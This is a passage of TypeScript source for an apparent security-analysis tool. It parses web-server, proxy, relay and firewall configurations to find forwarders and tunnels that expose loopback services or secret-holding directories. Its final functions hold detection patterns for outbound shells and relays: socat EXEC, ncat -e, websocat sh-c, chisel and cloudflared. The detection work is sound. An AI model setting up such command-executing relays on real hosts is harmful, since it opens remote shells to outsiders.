            // The value as written when it is no plain string, with what it computes to.
            server: `lighttpd ${directive} ${dir === undefined ? written : written === `"${dir}"` ? dir : `${written} (${dir})`}`,
            binds: socket.length > 0 ? socket : lighttpdBinds,
            serves: { files: dir === undefined ? undefined : resolve(dir, "/") },
        });
    return out.filter(l => !("files" in l.serves) || l.serves.files === undefined || holdsNodeSecrets(l.serves.files));
}

/**
 * A lighttpd configuration value as lighttpd computes it (lighttpd docs "Configuration File Syntax": `VALUE : (
 * <string> | <integer> | ... | VALUE [ + VALUE ]*)`, strings in double quotes; `var.NAME = VALUE` sets a variable "computed
 * when config is read", used by its name with or without `var.`, `+=` appending), the variables being those `before`
 * (the configuration's text up to the value) sets; undefined when the pack cannot compute it: `env.NAME` (the
 * server's environment), a variable set elsewhere (the shipped lighttpd.conf's, var.CWD, var.PID), an array or
 * anything else: fail closed.
 */
function lighttpdValue(expression: string, before: string): string | undefined {
    const variables = new Map<string, string | undefined>();
    for (const m of before.matchAll(/(?:^|\n)\s*var\.([\w.-]+)\s*([+:]?=)\s*([^\n]*)/g)) {
        const value = lighttpdTerms(m[3], variables);
        const was = m[2] === "+=" ? variables.get(m[1]) : "";
        variables.set(m[1], was === undefined || value === undefined ? undefined : was + value);
    }
    return lighttpdTerms(expression, variables);
}

function lighttpdTerms(expression: string, variables: ReadonlyMap<string, string | undefined>): string | undefined {
    // A `#` outside a string comments the rest of the line out.
    const code = /^((?:[^"#]|"(?:\\.|[^"\\])*")*)/.exec(expression)?.[1] ?? "";
    const terms = code.trim().split(/\s*\+\s*(?=(?:[^"]*"[^"]*")*[^"]*$)/);
    let value = "";
    for (const term of terms) {
        const quoted = /^"((?:\\.|[^"\\])*)"$/.exec(term);
        const name = /^(?:var\.)?([A-Za-z_][\w.-]*)$/.exec(term);
        const part = quoted
            ? quoted[1].replace(/\\(.)/g, "$1")
            : /^\d+$/.test(term)
              ? term
              : name && !term.startsWith("env.")
                ? variables.get(name[1])
                : undefined;
        if (part === undefined) return undefined;
        value += part;
    }
    return value;
}

/**
 * nginx's directives as its parser reads them (nginx docs, "Configuration file's structure": simple directives end
 * with `;`, block directives hold others in braces; `#` comments to the end of the line; quoted words).
 */
interface NginxDirective {
    name: string;
    args: string[];
    block?: NginxDirective[];
}

function nginxDirectives(text: string): NginxDirective[] {
    const root: NginxDirective[] = [];
    const stack: NginxDirective[][] = [root];
    let words: string[] = [];
    const tokens = text.matchAll(/#[^\n]*|"((?:\\.|[^"\\])*)"|'((?:\\.|[^'\\])*)'|([{};])|[^\s{};"'#]+/g);
    for (const m of tokens) {
        if (m[0].startsWith("#")) continue;
        const top = stack[stack.length - 1];
        if (m[3] === ";") {
            if (words.length > 0) top.push({ name: words[0], args: words.slice(1) });
            words = [];
        } else if (m[3] === "{") {
            const block: NginxDirective[] = [];
            top.push({ name: words[0] ?? "", args: words.slice(1), block });
            stack.push(block);
            words = [];
        } else if (m[3] === "}") {
            if (stack.length > 1) stack.pop();
            words = [];
        } else words.push(m[1] ?? m[2] ?? m[0]);
    }
    return root;
}

/**
 * nginx's servers, http{} and stream{} alike (ngx_http_core_module and ngx_stream_core_module `server`, `listen`; no
 * `listen` is *:80), each with the upstreams its proxy_pass and grpc_pass directives name (ngx_http_proxy_module
 * proxy_pass: "the address can be specified as a domain name or IP address, and an optional port ... or as a
 * UNIX-domain socket path specified after the word "unix" and enclosed in colons"; "If a domain name resolves to
 * several addresses ... In addition, an address can be specified as a server group", an `upstream` block;
 * ngx_stream_proxy_module proxy_pass: an address without a scheme), and the directories its `root` and `alias`
 * directives serve files of (ngx_http_core_module root "Sets the root directory for requests", alias "Defines a
 * replacement for the specified location"; server and location levels, and http{}'s, which servers inherit). A pass
 * or root outside any server block is a fragment a server elsewhere includes (AL2023's default server on port 80
 * includes /etc/nginx/default.d/*.conf): where it listens is unknown ([]: every address).
 */
function nginxServers(
    text: string,
): { listens: string[]; passes: string[]; roots: string[]; groups: Map<string, string[]> }[] {
    const top = nginxDirectives(text);
    const groups = new Map<string, string[]>();
    const servers: { listens: string[]; passes: string[]; roots: string[]; groups: Map<string, string[]> }[] = [];
    const outside = { listens: [] as string[], passes: [] as string[], roots: [] as string[], groups };
    const ROOTS = /^(root|alias)$/;
    const collect = (ds: readonly NginxDirective[], name: RegExp, into: string[]): void => {
        for (const d of ds) {
            if (name.test(d.name) && d.args[0] !== undefined) into.push(d.args[0]);
            if (d.block && d.name !== "server") collect(d.block, name, into);
        }
    };
    const walk = (ds: readonly NginxDirective[], inherited: readonly string[]): void => {
        const here = [
            ...inherited,
            ...ds.filter(d => d.name === "root" && d.args[0] !== undefined).map(d => d.args[0]),
        ];
        for (const d of ds) {
            if (d.name === "upstream" && d.block)
                groups.set(
                    d.args[0] ?? "",
                    d.block.filter(s => s.name === "server").map(s => s.args[0] ?? ""),
                );
            else if (d.name === "server" && d.block) {
                const server = {
                    listens: d.block.filter(l => l.name === "listen").map(l => l.args[0] ?? ""),
                    passes: [] as string[],
                    roots: [...here] as string[],
                    groups,
                };
                collect(d.block, /^(proxy_pass|grpc_pass)$/, server.passes);
                collect(d.block, ROOTS, server.roots);
                servers.push(server);
            } else if (/^(proxy_pass|grpc_pass)$/.test(d.name) && d.args[0] !== undefined)
                outside.passes.push(d.args[0]);
            else if (d.block) walk(d.block, here);
            // A root or alias outside any server block (in http{}, or a location of a default.d fragment) serves on
            // servers' addresses the pack does not know. One at the top of a file is no nginx configuration's.
            else if (ROOTS.test(d.name) && d.args.length === 1 && ds !== top) outside.roots.push(d.args[0]);
        }
    };
    walk(top, []);
    return outside.passes.length > 0 || outside.roots.length > 0 ? [...servers, outside] : servers;
}

/**
 * Apache httpd's proxy targets (mod_proxy ProxyPass/ProxyPassMatch "[path] !|url", a unix socket as
 * `unix:/path|http://host/`; mod_proxy_balancer BalancerMember url; mod_rewrite RewriteRule with the [P] flag): each
 * line and the URL it names.
 */
function httpdProxyTargets(lines: readonly string[]): { line: string; url: string }[] {
    return lines.flatMap(line => {
        const words = line.trim().split(/\s+/);
        if (/^ProxyPass(Match)?$/i.test(words[0]) || /^BalancerMember$/i.test(words[0]))
            return words
                .slice(1)
                .filter(a => /:\/\//.test(a))
                .map(url => ({ line, url }));
        if (/^RewriteRule$/i.test(words[0]) && /\[([^\]]*,)?\s*(P|proxy)\s*(,[^\]]*)?\]/i.test(line))
            return [{ line, url: words[2] ?? "" }];
        return [];
    });
}

/** The loopback ends a listener's or forwarder's binds name, each a socket or a port (unknown: none given). */
function boundEnds(binds: readonly string[]): LoopbackEnd[] {
    return binds.map(b => {
        const a = b
            .trim()
            .replace(/^["']|["']$/g, "")
            .replace(/^ipv[46]@/i, "");
        if (/^(unix:|unix@)?\//.test(a)) return { socket: posix.normalize(a.replace(/^unix[:@]/, "")) };
        // A bare IPv6 address (::1, 0::1) names no port: its last group is not one.
        const port = /^\d+$/.test(a)
            ? a
            : (/^\[[^\]]*\]:(\d+)$/.exec(a)?.[1] ?? (/:.*:/.test(a) ? undefined : /:(\d+)$/.exec(a)?.[1]));
        return port === undefined ? {} : { port: Number(port) };
    });
}

/** Whether a forwarder's loopback end reaches something bound at `binds`: an unknown end reaches anything there. */
function reaches(to: LoopbackEnd, binds: readonly string[]): boolean {
    if (to.socket !== undefined) return boundEnds(binds).some(e => e.socket === to.socket);
    if (to.port !== undefined)
        return boundEnds(binds).some(e => e.socket === undefined && (e.port === undefined || e.port === to.port));
    return true;
}

/**
 * Forwarders a configuration sets up, one reader per format (as forwardProxies reads the same files for the host a
 * client names): nginx (nginxServers; an upstream group's servers, port 80 by default), Apache httpd
 * (httpdProxyTargets; `Listen`, httpd.conf's default Listen 80), HAProxy (`server NAME ADDR[:PORT]` in a backend or
 * listen section, "unix@" or a path a socket, no port the client's own; `bind`), Caddy (a Caddyfile's reverse_proxy
 * upstreams and `to`, `unix//path` a socket, listening on every interface unless `bind`: Caddy docs, "reverse_proxy",
 * "bind"; JSON `dial` and `listen`), relays (stunnel, rinetd, xinetd `redirect`: relayForwarders), Envoy's static
 * listeners and Traefik's servers (structuredForwarders), iptables-save rules (iptablesForwarder, each `-A` line in
 * the table its `*TABLE` header opens: iptables-restore(8) reads that format), nftables rules (nftForwarders) and
 * firewalld's forward ports (firewalldForwarders: a zone file's `<forward-port>`).
 */
export function configForwarders(text: string): Forwarder[] {
    const lines = configLines(text);
    const values = (re: RegExp) => directiveValues(lines, re);
    const out: Forwarder[] = [];
    const add = (forwarder: string, listens: readonly string[], to: LoopbackEnd | undefined) => {
        if (to) out.push({ forwarder, listens, to });
    };
    for (const server of nginxServers(text))
        for (const pass of server.passes) {
            const host = pass.replace(/^[a-z0-9+.-]+:\/\//i, "").split(/[/:]/)[0];
            const group = server.groups.get(host);
            for (const address of group ?? [pass])
                add(`nginx proxy_pass ${pass}`, server.listens, loopbackEnd(address, group ? 80 : undefined));
        }
    const httpdListens = values(LISTENS.httpd);
    for (const { line, url } of httpdProxyTargets(lines))
        add(`Apache httpd ${line.trim()}`, httpdListens, loopbackEnd(url.replace(/^unix:([^|]*)\|.*$/i, "unix:$1")));
    if (lines.some(l => /^\s*(frontend|backend|listen|defaults)\b/.test(l))) {
        const binds = values(LISTENS.haproxy).flatMap(b => b.split(","));
        for (const l of lines) {
            const m = /^\s*server\s+\S+\s+([^\s;{]+)(?![^;{]*[;{])/.exec(l);
            if (m)
                add(
                    `HAProxy ${l.trim()}`,
                    binds,
                    loopbackEnd(m[1].replace(/^ipv[46]@/i, "").replace(/^unix@/i, "unix:")),
                );
        }
    }
    const caddyBinds = values(/^\s*(?:default_)?bind\s+([^{}\n]+)/).flatMap(v => v.trim().split(/\s+/));
    for (const l of lines) {
        const m = /^\s*(reverse_proxy|to)\s+([^{}\n]+)/.exec(l);
        if (!m || (m[1] === "to" && !text.includes("reverse_proxy"))) continue;
        for (const upstream of m[2].trim().split(/\s+/))
            if (!/^[/@*]/.test(upstream))
                add(`Caddy ${l.trim()}`, caddyBinds, loopbackEnd(upstream.replace(/^unix\/\//, "unix:/")));
    }
    const jsonListens = values(/"listen"\s*:\s*\[([^\]]*)\]/).flatMap(v =>
        [...v.matchAll(/"([^"]*)"/g)].map(q => q[1]),
    );
    for (const dial of values(/"dial"\s*:\s*"([^"]*)"/)) add(`Caddy "dial": "${dial}"`, jsonListens, loopbackEnd(dial));
    let table = "filter";
    for (const l of lines) {
        table = /^\s*\*(\w+)\s*$/.exec(l)?.[1] ?? table;
        const words = l.trim().split(/\s+/);
        if (/^\s*-[AI]\s/.test(l))
            out.push(
                ...iptablesForwarder(words.some(w => /^(-t|--table)(=|$)/.test(w)) ? words : ["-t", table, ...words]),
            );
        out.push(...nftForwarders(l));
    }
    return [...out, ...relayForwarders(text), ...structuredForwarders(text), ...firewalldForwarders(text)];
}

/**
 * TCP relays configured in a file:
 * - stunnel (stunnel(8) "SERVICE-LEVEL OPTIONS"): each `[service]` accepts on `accept = [host:]port` ("If no host
 *   specified, defaults to all IP addresses for the local host") and connects to each `connect = [host:]port` ("If no
 *   host is specified, the host defaults to localhost"), or to `redirect = [host:]port` when a client's certificate
 *   fails; `client = yes` changes only which side speaks TLS;
 * - rinetd (rinetd(8) "FORWARDING RULES": "bindaddress bindport connectaddress connectport [options...]", 0.0.0.0 every
 *   address, service names for ports), in /etc/rinetd.conf or the file `rinetd -c` reads;
 * - xinetd's `redirect = HOST PORT` (xinetd.conf(5): the service's connections are relayed there instead of running
 *   its server), listening on the service's `bind`/`interface` (every address by default) and `port`.
 */
function relayForwarders(text: string): Forwarder[] {
    const out: Forwarder[] = [];
    const add = (forwarder: string, listens: readonly string[], to: LoopbackEnd | undefined) => {
        if (to) out.push({ forwarder, listens, to });
    };
    const services: { name: string; accept: string[]; connect: string[] }[] = [];
    for (const l of configLines(text)) {
        const header = /^\s*\[([^\]]*)\]\s*$/.exec(l);
        if (header) services.push({ name: header[1], accept: [], connect: [] });
        const option = /^\s*(accept|connect|redirect)\s*=\s*(\S+)\s*$/i.exec(l);
        const service = services.at(-1);
        if (option && service) service[/^accept$/i.test(option[1]) ? "accept" : "connect"].push(option[2]);
    }
    for (const { name, accept, connect } of services.filter(v => v.accept.length > 0)) {
        const listens = accept.map(a => (/^\d+$/.test(a) ? `0.0.0.0:${a}` : a));
        for (const c of connect) {
            const m = /^(.*):(\w+)$/.exec(c);
            add(`stunnel [${name}] connect = ${c}`, listens, m ? relayEnd(m[1], m[2]) : relayEnd("localhost", c));
        }
    }
    const host = (h: string) => (isAddress(h) && !isHostPort(h)) || /^(localhost|[\w-]+(\.[\w-]+)+)$/i.test(h);
    const port = /^(\d+|[a-z][\w-]*)(\/(tcp|udp))?$/i;
    for (const l of configLines(text)) {
        const f = l.trim().split(/\s+/);
        const rule = f.length === 4 || (f.length > 4 && f[4].startsWith("["));
        if (rule && host(f[0]) && port.test(f[1]) && host(f[2]) && port.test(f[3]))
            add(
                `rinetd ${l.trim()}`,
                [`${f[0]}:${f[1].replace(/\/.*$/, "")}`],
                relayEnd(f[2], f[3].replace(/\/.*$/, "")),
            );
    }
    for (const { name, get } of xinetdServices(text)) {
        const [host, to] = get("redirect");
        const binds = [...get("bind"), ...get("interface")];
        const servicePort = get("port")[0];
        const listens = (binds.length > 0 ? binds : ["0.0.0.0"]).map(b => (servicePort ? `${b}:${servicePort}` : b));
        if (host !== undefined)
            add(`xinetd service ${name} redirect = ${host} ${to ?? ""}`, listens, relayEnd(host, to));
    }
    return out;
}

/** Every value at `key` in a parsed document, at any depth. */
const valuesAt = (v: unknown, key: string): unknown[] =>
    Array.isArray(v)
        ? v.flatMap(x => valuesAt(x, key))
        : v && typeof v === "object"
          ? Object.entries(v).flatMap(([k, x]) => [...(k === key ? [x] : []), ...valuesAt(x, key)])
          : [];

/** The documents of a YAML (JSON being YAML) or TOML text, none when it parses as neither. */
function structuredDocs(text: string): unknown[] {
    try {
        const yaml = parseAllDocuments(text);
        const all = Array.isArray(yaml) ? yaml : [yaml];
        if (all.every(d => d.errors.length === 0)) return all.map(d => d.toJS());
    } catch {
        // not YAML: TOML below
    }
    try {
        return [parseToml(text)];
    } catch {
        return [];
    }
}

/** An Envoy address (config.core.v3.Address) as a bind or end: a socket_address's `address[:port_value]`, a `pipe` path. */
function envoySocket(address: unknown): string | undefined {
    const pipe = obj(obj(address).pipe).path;
    if (typeof pipe === "string") return `unix:${pipe}`;
    const { address: host, port_value: port } = obj(obj(address).socket_address);
    if (host === undefined) return undefined;
    const h = /:/.test(String(host)) ? `[${String(host)}]` : String(host);
    return port === undefined ? h : `${h}:${String(port)}`;
}

/** The endpoints of a ClusterLoadAssignment (a cluster's load_assignment, or an EDS resource): its lb_endpoints. */
const envoyAssignmentEnds = (assignment: unknown) =>
    list(obj(assignment).endpoints)
        .flatMap(e => list(obj(e).lb_endpoints))
        .map(e => envoySocket(obj(obj(e).endpoint).address))
        .flatMap(e => (e === undefined ? [] : [e]));

/**
 * Envoy's listeners joined to its clusters (Envoy docs, "Configuration: Static"): each listener listens on its
 * `address` (socket_address address and port_value) and its additional_addresses, and sends connections to the
 * clusters its filters name (tcp_proxy `cluster`, a route's `cluster` or weighted_clusters; none read, or a route
 * whose cluster the request names: every cluster), each cluster to its endpoints (load_assignment lb_endpoints, v2
 * `hosts`; socket_address or a `pipe` path), and to those `edsEnds` gives for it (its EDS source's:
 * envoyBootstrapForwarders), undefined for endpoints the pack cannot read: any loopback end (`{}`).
 */
function envoyForwarders(
    listeners: readonly unknown[],
    clusterList: readonly unknown[],
    edsEnds: (cluster: unknown) => string[] | undefined = () => [],
): Forwarder[] {
    const clusters = clusterList.map(c => {
        const eds = edsEnds(c);
        return {
            name: String(obj(c).name ?? ""),
            ends: [
                ...envoyAssignmentEnds(obj(c).load_assignment),
                ...list(obj(c).hosts).flatMap(h => envoySocket(h) ?? []),
                ...(eds ?? []),
            ],
            unread: eds === undefined,
        };
    });
    const out: Forwarder[] = [];
    for (const listener of listeners) {
        // A route choosing its cluster by request (RouteAction cluster_header: "Envoy will determine the cluster to
        // route to by reading the value of the HTTP header named by cluster_header from the request headers"; a
        // cluster_specifier_plugin's choice alike) reaches whichever cluster the client names: every one.
        const clientChosen = ["cluster_header", "cluster_specifier_plugin", "inline_cluster_specifier_plugin"].some(
            key => valuesAt(listener, key).length > 0,
        );
        const named = [
            ...valuesAt(listener, "cluster"),
            ...valuesAt(listener, "clusters").flatMap(w => list(w).map(x => obj(x).name)),
        ].filter((n): n is string => typeof n === "string");
        // listener.proto Listener.additional_addresses: "The additional addresses the listener should listen on".
        const listens = [
            obj(listener).address,
            ...list(obj(listener).additional_addresses).map(a => obj(a).address),
        ].flatMap(a => envoySocket(a) ?? []);
        const via = `Envoy listener ${String(obj(listener).name ?? "")} to cluster`;
        for (const cluster of clusters.filter(c => clientChosen || named.length === 0 || named.includes(c.name))) {
            for (const end of cluster.ends) {
                const to = loopbackEnd(end);
                if (to) out.push({ forwarder: `${via} ${cluster.name} (${end})`, listens, to });
            }
            if (cluster.unread)
                out.push({ forwarder: `${via} ${cluster.name} (EDS endpoints the pack cannot read)`, listens, to: {} });
        }
    }
    return out;
}

/**
 * Forwarders of configurations in YAML, JSON or TOML (each document read as the one the text parses as):
 * - Envoy's bootstrap (Envoy docs, "Configuration: Static": `static_resources` listeners and clusters: envoyForwarders;
 *   with its `dynamic_resources` and EDS sources it is read with the command that names it, envoyBootstrapForwarders);
 * - Traefik (Traefik docs, "EntryPoints": `address: ":80"`, part of the static configuration; "File" provider:
 *   http `services.NAME.loadBalancer.servers[].url`, tcp `...servers[].address`; v1 `backends.NAME.servers.NAME.url`):
 *   each server is reached from the entry points the same file opens, from every address when it opens none (a file
 *   provider's dynamic file is routed to from entry points the pack does not join to it).
 */
function structuredForwarders(text: string): Forwarder[] {
    if (!/static_resources|loadBalancer|backends/.test(text)) return [];
    const out: Forwarder[] = [];
    for (const doc of structuredDocs(text)) {
        const resources = obj(obj(doc).static_resources);
        out.push(...envoyForwarders(list(resources.listeners), list(resources.clusters)));
        const entryPoints = Object.values(obj(obj(doc).entryPoints)).flatMap(e => {
            const address = obj(e).address;
            return typeof address === "string" ? [address.replace(/\/(tcp|udp)$/i, "")] : [];
        });
        const servers = [
            ...["http", "tcp"].flatMap(kind =>
                Object.values(obj(obj(obj(doc)[kind]).services)).flatMap(service =>
                    list(obj(obj(service).loadBalancer).servers).map(
                        server => obj(server)[kind === "http" ? "url" : "address"],
                    ),
                ),
            ),
            ...Object.values(obj(obj(doc).backends)).flatMap(backend =>
                Object.values(obj(obj(backend).servers)).map(server => obj(server).url),
            ),
        ].filter((v): v is string => typeof v === "string");
        for (const server of servers) {
            const to = loopbackEnd(server);
            if (to) out.push({ forwarder: `Traefik server ${server}`, listens: entryPoints, to });
        }
    }
    return out;
}

/**
 * firewalld forward ports to an address (firewall-cmd(1) "--add-forward-port=port=portid[-portid]:proto=protocol
 * [:toport=portid[-portid]][:toaddr=address[/mask]]"; the rich language's and a zone file's `forward-port port="..."
 * protocol="..." to-port="..." to-addr="..."`: firewalld.richlanguage(5), firewalld.zone(5)): DNAT, as iptablesForwarder
 * reads, on every address of the zone's interfaces. Without an address the port is forwarded on the instance itself,
 * to the address the packet came to (REDIRECT's case: nothing bound to loopback is exposed).
 */
function firewalldForwarders(text: string): Forwarder[] {
    const specs = [
        ...[...text.matchAll(/--add-forward-port[= ](\S+)/g)].map(m =>
            m[1].split(/:(?=(?:port|proto|toport|toaddr)=)/).map(kv => kv.split(/=(.*)/s).slice(0, 2)),
        ),
        ...[...text.matchAll(/\bforward-port\b([^>\n]*)/g)].map(m =>
            [...m[1].matchAll(/\b(port|to-port|to-addr)\s*=\s*["']?([^"'\s/>]+)/g)].map(kv => [kv[1], kv[2]]),
        ),
    ].map(kvs => new Map(kvs.map(([k, v]) => [k.replace("-", ""), v ?? ""])));
    return specs.flatMap(spec => {
        const [port, toport, toaddr] = [spec.get("port"), spec.get("toport") ?? spec.get("port"), spec.get("toaddr")];
        if (toaddr === undefined || port === undefined) return [];
        const to = /-/.test(toport ?? "") ? loopbackEnd(toaddr) && {} : relayEnd(toaddr, toport);
        const listens = [/^\d+$/.test(port) ? `0.0.0.0:${port}` : "0.0.0.0"];
        return to
            ? [{ forwarder: `firewalld forward-port ${[...spec].map(kv => kv.join("=")).join(":")}`, listens, to }]
            : [];
    });
}

/**
 * An iptables rule that sends packets arriving from the network to this instance's loopback: nat table, DNAT
 * --to-destination a loopback address in any chain but OUTPUT (iptables-extensions(8) DNAT; packets routed to
 * 127.0.0.0/8 from another interface need net.ipv4.conf.*.route_localnet=1, which kube-proxy itself sets on nodes and
 * any script may, so it is not required here). Its port is the rule's own, else the packet's --dport. REDIRECT
 * rewrites to "the primary address of the incoming interface" (iptables-extensions(8) REDIRECT; loopback only for
 * locally-generated packets), which a loopback-bound server does not accept: it exposes nothing bound to loopback.
 */
function iptablesForwarder(words: readonly string[]): Forwarder[] {
    const value = (...names: string[]) => {
        const i = words.findIndex(w => names.includes(w));
        const glued = words.find(w => names.some(n => n.startsWith("--") && w.startsWith(`${n}=`)));
        return i >= 0 ? words[i + 1] : glued?.slice(glued.indexOf("=") + 1);
    };
    if (value("-t", "--table") !== "nat" || value("-j", "--jump") !== "DNAT") return [];
    if (value("-A", "--append", "-I", "--insert", "-R", "--replace") === "OUTPUT") return [];
    const destination = value("--to-destination", "--to") ?? "";
    const dport = value("--dport", "--destination-port");
    const address =
        /:\d+$/.test(destination) || dport === undefined || !/^\d+$/.test(dport)
            ? destination
            : `${destination}:${dport}`;
    const to = /:\d+-\d+$/.test(destination)
        ? loopbackEnd(destination.replace(/:\d+-\d+$/, "")) && {}
        : loopbackEnd(address);
    const listens = [value("-d", "--destination", "--dst") ?? "0.0.0.0"].map(d => (dport ? `${d}:${dport}` : d));
    return to ? [{ forwarder: `iptables ${words.join(" ")}`, listens, to }] : [];
}

/**
 * An nftables DNAT rule to a loopback address, as iptablesForwarder: `dnat [ip|ip6] to ADDRESS[:PORT]` (nft(8) "NAT
 * statements"), or through a map (nftables wiki "Maps": `dnat to tcp dport map { 80 : 192.168.1.100, 8888 :
 * 192.168.1.101 }`, a concatenation `ADDR . PORT` on either side: one DNAT per element, its key the packet's daddr or
 * dport). A named map (`map @NAME`) or one this line does not close holds elements the pack does not read: an end it
 * cannot tell.
 */
function nftForwarders(rule: string): Forwarder[] {
    const m = /\bdnat\s+(?:ip6?\s+)?to\s+(?:(.*?)\s*\bmap\s+(@\S+|\{[^}]*\}?)|([^\s;]+))/.exec(rule);
    if (!m) return [];
    const match = rule.slice(0, m.index);
    const daddr = /\bdaddr\s+([^\s;.]+)/.exec(match)?.[1] ?? "0.0.0.0";
    const dport = /\bdport\s+(\d+)\b/.exec(match)?.[1];
    const forwarder = (listen: { daddr: string; dport?: string }, to: LoopbackEnd | undefined): Forwarder[] =>
        to
            ? [
                  {
                      forwarder: `nftables ${rule.trim()}`,
                      listens: [listen.dport ? `${listen.daddr}:${listen.dport}` : listen.daddr],
                      to,
                  },
              ]
            : [];
    if (m[3] !== undefined)
        return forwarder(
            { daddr, dport },
            loopbackEnd(/:\d+$/.test(m[3]) || dport === undefined ? m[3] : `${m[3]}:${dport}`),
        );
    if (!/^\{[^}]*\}$/.test(m[2])) return forwarder({ daddr, dport }, {});
    const keys = m[1].split(/\s+\.\s+/);
    return m[2]
        .slice(1, -1)
        .split(",")
        .filter(element => element.trim() !== "")
        .flatMap(element => {
            const e = /^\s*(\S+(?:\s+\.\s+\S+)*)\s*:\s*(.+?)\s*$/.exec(element);
            if (!e) return forwarder({ daddr, dport }, {});
            const [, key, value] = e;
            const listen = { daddr, dport };
            key.split(/\s+\.\s+/).forEach((k, i) => {
                if (/\bdaddr$/.test(keys[i] ?? "")) listen.daddr = k;
                if (/\bdport$/.test(keys[i] ?? "") && /^\d+$/.test(k)) listen.dport = k;
            });
            const [address, port = listen.dport] = value.split(/\s+\.\s+/);
            return forwarder(listen, relayEnd(address, port));
        });
}

/**
 * Where a relay that dials out is listened on: its far end (ssh -R's destination, socat's or ncat's connecting
 * address, a tunnel service), another host's, whoever holds it reaching the relay's end here; a far end on this
 * instance's loopback is a local port, one the pack cannot read (a variable) an end beyond loopback, failing closed.
 */
function dialledOut(far: string): string[] {
    if (loopbackOnly([far])) return [far];
    return loopbackEnd(far) === undefined ? [`${far} (another host)`] : [`${far} (an end the pack cannot read)`];
}

/** socat's network addresses that connect out (socat(1) "ADDRESS TYPES"), through a SOCKS or HTTP proxy too. */
const SOCAT_CONNECT =
    /^(tcp[46]?|tcp[46]?-connect|udp[46]?|udp[46]?-(connect|sendto)|sctp[46]?-connect|dccp[46]?-connect|openssl|ssl|openssl-connect|openssl-dtls-client|socks4a?|socks5|socks5-connect|proxy|proxy-connect):([^,]*)/i;

/** A SOCKS or HTTP-proxy address's target (`SOCKS4:proxy:host:port`, `PROXY:proxy:host:port`): its far end. */
const socatFar = (address: string) => {
    const m = SOCAT_CONNECT.exec(address);
    if (!m) return undefined;
    return /^(socks|proxy)/i.test(m[1]) ? m[3].split(":").slice(1).join(":") || m[3] : m[3];
};

/**
 * Whether a Go program's boolean flag is on, as Go's flag package reads it (pkg.go.dev/flag: "One or two minus signs
 * may be used; they are equivalent"; "-flag", "-flag=x" where x is what strconv.ParseBool accepts: "1, t, T, TRUE,
 * true, True" on, "0, f, F, FALSE, false, False" off; a boolean takes no next word) and spf13/pflag (cobra) alike
 * for `--flag[=x]`. The last one given counts; a value ParseBool would not read as off (a variable) is on (fail closed).
 */
export function goBoolFlag(args: readonly string[], flag: string): boolean {
    let on = false;
    for (const w of args) {
        if (w === "--") break;
        const m = /^--?([^=]+)(?:=([\s\S]*))?$/.exec(w);
        if (m?.[1] === flag) on = m[2] === undefined || !/^(0|f|F|false|FALSE|False)$/.test(m[2]);
    }
    return on;
}

/** chisel client's options taking a value (`chisel client --help`). */
const CHISEL_CLIENT_VALUES = [
    "fingerprint",
    "auth",
    "keepalive",
    "max-retry-count",
    "max-retry-interval",
    "proxy",
    "header",
    "hostname",
    "sni",
    "tls-ca",
    "tls-cert",
    "tls-key",
];

/**
 * cloudflared subcommands that run no tunnel (`access` a client listening on its --url; tunnel management). The legacy
 * `cloudflared --url URL` runs a quick tunnel as `cloudflared tunnel --url URL` does.
 */
const CLOUDFLARED_NOT_RUNNING =
    /^(access|login|create|list|delete|route|cleanup|token|info|ingress|vnet|diag|update|uninstall|version)$/;

/** cloudflared's default configuration files (Cloudflare docs, "Configuration file": "~/.cloudflared/, /etc/cloudflared, /usr/local/etc/cloudflared"). */
const CLOUDFLARED_CONFIGS = [
    "/etc/cloudflared/config.yml",
    "/usr/local/etc/cloudflared/config.yml",
    "/root/.cloudflared/config.yml",
];

/**
 * What a relay that dials out joins to its far end (dialledOutForwarders, shellsHandedOut): socat with two connecting
 * addresses and no listening one, the other address a loopback end (`address`) or an EXEC:/SYSTEM:/SHELL: program
 * (socat(1) "ADDRESS TYPES": EXEC "Forks a sub process ... and invokes the specified program"); ncat/nc connecting with
 * -e/--exec, -c/--sh-exec or --lua-exec (Ncat Users' Guide, "Command Execution": the program's standard input and
 * output are the connection in connect mode too), `program` null for a Lua script (unread). A far end on this
 * instance's loopback with a port or socket is a local client of the two, none; undefined for any other command.
 */
function dialledOutPeers(
    name: string,
    args: readonly string[],
): { far: string; program?: string | null; address?: string }[] | undefined {
    if (name === "socat") {
        const addresses = args.filter(w => !w.startsWith("-") || w === "-").slice(-2);
        if (addresses.length !== 2 || addresses.some(a => SOCAT_LISTENER.test(a) || /^unix-(listen|recv)/i.test(a)))
            return undefined;
        return addresses.flatMap((a, i) => {
            const far = socatFar(a);
            if (far === undefined) return [];
            const end = loopbackEnd(far);
            if (end && (end.port !== undefined || end.socket !== undefined)) return [];
            const other = addresses[1 - i];
            const exec = /^(exec|system|shell):(.*)$/i.exec(other);
            return [exec ? { far, program: exec[2].split(/(?<!\\),/)[0] } : { far, address: other }];
        });
    }
    // websocat README: `sh-c:CMDLINE` (`cmd:` on Unix) and `exec:PROGRAM` (--exec-args ...) connect a command's stdio to
    // the other specifier; with a client one (ws://, wss://, tcp:HOST:PORT ...) and no listening one (-s, ws-l:,
    // tcp-l:, l-ws: ...), the command serves the far end.
    if (name === "websocat") {
        const specs = args.filter(
            (w, i) =>
                !w.startsWith("-") && !/^--(exec-args|protocol|header|origin|[\w-]*-file)$/.test(args[i - 1] ?? ""),
        );
        const program = specs.find(w => /^(sh-c|cmd|exec):/i.test(w));
        const far = specs.find(w => w !== program);
        if (
            program === undefined ||
            far === undefined ||
            args.some(w => /^(-s|--server-mode)$/.test(w)) ||
            specs.some(w => /^([\w-]*-l(isten)?|l-[\w-]+|listen-[\w-]+|[\w-]*-listen):/i.test(w))
        )
            return undefined;
        const exec = args.indexOf("--exec-args");
        const command = program.replace(/^[^:]*:/, "");
        const end = loopbackEnd(far.replace(/^(tcp|ws|wss|tls|ssl)[\w-]*:(?!\/\/)/i, ""));
        if (end && (end.port !== undefined || end.socket !== undefined)) return [];
        return [{ far, program: exec >= 0 ? [command, ...args.slice(exec + 1)].join(" ") : command }];
    }
    if (/^(ncat|nc|netcat)$/.test(name)) {
        const { listen, values, hosts } = ncatCommand(args);
        const programs = values.filter(([k]) => /^(-e|--exec|-c|--sh-exec|--lua-exec)$/.test(k));
        if (listen || programs.length === 0) return undefined;
        const port = args.filter(w => /^\d+$/.test(w)).at(-1);
        const far = `${hosts[0] ?? ""}${port === undefined ? "" : `:${port}`}`;
        return programs.map(([k, v]) => ({ far, program: k === "--lua-exec" ? null : v }));
    }
    return undefined;
}

/**
 * Relays that dial out and hand an end on this instance to whoever holds their far end, read as ssh -R is (the target
 * resolved here, the listener another host's: dialledOut). An end the pack cannot read (a variable, a program's
